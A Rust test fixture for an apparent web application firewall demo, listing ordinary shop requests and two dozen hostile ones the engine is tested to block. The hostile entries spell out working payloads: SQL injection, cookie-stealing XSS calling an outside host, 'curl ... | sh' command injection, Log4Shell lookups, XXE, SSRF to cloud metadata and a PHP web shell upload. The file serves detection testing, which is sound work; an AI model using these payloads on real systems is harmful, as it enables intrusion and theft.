//! The requests of the demonstration.

/// A request, and whether it should be stopped.
pub(super) struct Case {
    /// What it is, in a few words.
    pub(super) what: &'static str,
    pub(super) method: &'static str,
    /// The raw target.
    pub(super) path: &'static str,
    /// Headers besides `Host`, `User-Agent` and `Content-Length`.
    pub(super) headers: &'static [(&'static str, &'static str)],
    pub(super) body: String,
    pub(super) hostile: bool,
}

/// What a browser sends with every request, unless a case has its own.
const BROWSER: [(&str, &str); 3] = [
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0"),
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
    ("Accept-Language", "en-GB,en;q=0.5"),
];

impl Case {
    /// The headers that are sent.
    pub(super) fn headers(&self) -> Vec<(&'static str, String)> {
        let is_own = |name: &str| self.headers.iter().any(|(own, _)| *own == name);
        let usual = BROWSER.iter().filter(|(name, _)| !is_own(name));
        let mut headers = vec![("Host", "shop.example.com".to_owned())];
        headers.extend(usual.chain(self.headers).map(|(name, value)| (*name, (*value).to_owned())));
        if !self.body.is_empty() {
            headers.push(("Content-Length", self.body.len().to_string()));
        }
        headers
    }
}

/// All requests, ordinary ones first.
pub(super) fn all() -> Vec<Case> {
    ORDINARY.iter().map(|row| case(row, false)).chain(HOSTILE.iter().map(|row| case(row, true))).collect()
}

/// What it is, method, target, headers, body.
type Line = (&'static str, &'static str, &'static str, &'static [(&'static str, &'static str)], &'static str);

fn case(&(what, method, path, headers, body): &Line, hostile: bool) -> Case {
    // Bodies are written with plain line ends; multipart wants CRLF (RFC 2046 section 5.1.1).
    let body = if headers.contains(&MULTIPART) { body.replace('\n', "\r\n") } else { body.to_owned() };
    Case { what, method, path, headers, body, hostile }
}

const FORM: (&str, &str) = ("Content-Type", "application/x-www-form-urlencoded");
const JSON: (&str, &str) = ("Content-Type", "application/json");
const MULTIPART: (&str, &str) = ("Content-Type", "multipart/form-data; boundary=frontier");
const XML: (&str, &str) = ("Content-Type", "application/xml");

const ORDINARY: &[Line] = &[
    ("front page", "GET", "/", &[], ""),
    ("style sheet", "GET", "/style.css", &[], ""),
    ("search", "GET", "/search?q=bird+house&page=2", &[], ""),
    ("search, O'Hara", "GET", "/search?q=O%27Hara+tomatoes", &[], ""),
    ("search, prose", "GET", "/search?q=select+a+hose+from+the+union+of+all+sizes", &[], ""),
    ("search, C++", "GET", "/search?q=C%2B%2B+%26+%3C3+gardening", &[], ""),
    ("item", "GET", "/item/3", &[("Referer", "https://shop.example.com/search?q=bird")], ""),
    ("login form", "GET", "/login", &[("Cookie", "session=4f2a9c; theme=dark")], ""),
    ("login", "POST", "/login", &[FORM], "user=ann.o%27neil%40example.com&password=correct+horse%21+%3D%3D"),
    ("item list", "GET", "/api/items", &[("Accept", "application/json")], ""),
    (
        "order",
        "POST",
        "/api/orders",
        &[JSON],
        r#"{"items":[{"id":3,"count":2}],"note":"Please ring & leave at no. 5; thanks!"}"#,
    ),
    (
        "photo",
        "POST",
        "/upload",
        &[MULTIPART],
        "--frontier\nContent-Disposition: form-data; name=\"photo\"; filename=\"garden.png\"\nContent-Type: image/png\n\n\u{89}PNG not really\n--frontier--\n",
    ),
];

const HOSTILE: &[Line] = &[
    ("SQL injection", "GET", "/search?q=%27+OR+1%3D1--+", &[], ""),
    ("SQL injection, union", "GET", "/item/1?id=1+UNION+SELECT+user,password+FROM+users", &[], ""),
    ("SQL injection, form", "POST", "/login", &[FORM], "user=admin%27--+&password=x%27+OR+%271%27%3D%271"),
    (
        "SQL injection, JSON",
        "POST",
        "/api/orders",
        &[JSON],
        r#"{"note":"1; DROP TABLE orders; --","id":"1' OR '1'='1"}"#,
    ),
    ("cross-site scripting", "GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", &[], ""),
    ("cross-site scripting, event", "GET", "/search?q=%22%3E%3Cimg+src%3Dx+onerror%3Dalert(1)%3E", &[], ""),
    ("path traversal", "GET", "/item/..%2f..%2f..%2f..%2fetc%2fpasswd", &[], ""),
    ("path traversal, argument", "GET", "/search?file=../../../../etc/passwd", &[], ""),
    ("command injection", "GET", "/search?q=spade;cat+/etc/passwd", &[], ""),
    (
        "command injection, form",
        "POST",
        "/login",
        &[FORM],
        "user=%24(curl+http://203.0.113.9/x.sh|sh)&password=x",
    ),
    ("Log4Shell", "GET", "/", &[("X-Api-Version", "${jndi:ldap://203.0.113.9:1389/a}")], ""),
    ("Log4Shell, disguised", "GET", "/search?q=%24%7B%24%7Blower:j%7Dndi:ldap://203.0.113.9/a%7D", &[], ""),
    ("server-side request forgery", "GET", "/search?url=http://169.254.169.254/latest/meta-data/", &[], ""),
    (
        "XML external entity",
        "POST",
        "/api/orders",
        &[XML],
        "<?xml version=\"1.0\"?><!DOCTYPE o [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><order>&x;</order>",
    ),
    ("NoSQL injection", "POST", "/login", &[JSON], r#"{"user":{"$ne":null},"password":{"$gt":""}}"#),
    ("Shellshock", "GET", "/", &[("Referer", "() { :;}; /bin/bash -c 'id'")], ""),
    ("scanner", "GET", "/", &[("User-Agent", "sqlmap/1.8.4#stable (https://sqlmap.org)")], ""),
    ("repository", "GET", "/.git/config", &[], ""),
    ("environment file", "GET", "/.env", &[], ""),
    (
        "template injection",
        "GET",
        "/search?q=%7B%7B7*7%7D%7D%7B%7Bconfig.__class__.__init__.__globals__%7D%7D",
        &[],
        "",
    ),
    ("PHP stream wrapper", "GET", "/search?page=php://filter/convert.base64-encode/resource=index", &[], ""),
    (
        "web shell upload",
        "POST",
        "/upload",
        &[MULTIPART],
        "--frontier\nContent-Disposition: form-data; name=\"photo\"; filename=\"shell.php\"\nContent-Type: image/png\n\n<?php system($_GET['c']); ?>\n--frontier--\n",
    ),
    (
        "multipart field",
        "POST",
        "/upload",
        &[MULTIPART],
        "--frontier\nContent-Disposition: form-data; name=\"caption\"\n\n<script>fetch('//203.0.113.9/'+document.cookie)</script>\n--frontier--\n",
    ),
    ("Java deserialization", "GET", "/search?q=rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ", &[], ""),
];

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use engine::config::Flags;
    use engine::{Disk, Evaluation, Snapshot};
    use transaction::Record;

    use super::*;

    #[test]
    fn are_enough_and_well_formed() {
        let all = all();
        let hostile = all.iter().filter(|case| case.hostile).count();
        assert!(hostile >= 20 && all.len() - hostile >= 10);
        for case in &all {
            assert!(case.path.starts_with('/') && !case.path.contains(' '), "{}", case.path);
            assert_eq!(case.body.is_empty(), case.method == "GET", "{}", case.what);
        }
    }
    #[test]
    fn are_judged_as_expected() {
        let flags = Flags { mode: Some("prevent".into()), ..Flags::default() };
        let (snapshot, _warnings) = Snapshot::from_flags(&flags, &Disk, 0).unwrap();
        let snapshot = Arc::new(snapshot);
        for case in all() {
            let evaluation = Evaluation::of_record(snapshot.clone(), &record(&case));
            assert_eq!(evaluation.verdict().is_blocked(), case.hostile, "{}: {}", case.what, case.path);
        }
    }

    fn record(case: &Case) -> Record {
        let mut record = Record::default();
        record.request.method = case.method.into();
        record.request.target = case.path.into();
        let headers = case.headers();
        record.request.headers = headers.iter().map(|(name, value)| (*name, value.as_str())).collect();
        record.body = case.body.clone().into_bytes();
        record
    }
}
